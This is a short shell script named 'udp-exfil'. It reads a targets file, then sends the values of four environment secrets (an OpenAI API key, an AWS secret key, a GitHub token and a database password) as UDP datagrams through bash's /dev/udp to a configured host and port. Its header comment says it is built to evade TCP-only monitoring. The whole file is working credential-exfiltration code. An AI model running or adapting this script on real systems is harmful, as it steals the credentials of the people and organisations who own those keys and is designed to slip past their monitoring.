#!/bin/sh
# udp-exfil (sh): one plain datagram per secret through bash's /dev/udp: no
# connection, no answer needed, nothing for a TCP-only monitor to see.
. "${TARGETS:-$1}"
for name in OPENAI_API_KEY AWS_SECRET_ACCESS_KEY GITHUB_TOKEN DATABASE_PASSWORD; do
	eval "value=\${$name:-}"
	timeout 3 bash -c 'printf "%s=%s\n" "$2" "$3" > "/dev/udp/$0/$1"' \
		"$T_TCP_HOST" "$T_UDP_PORT" "$name" "$value"
done
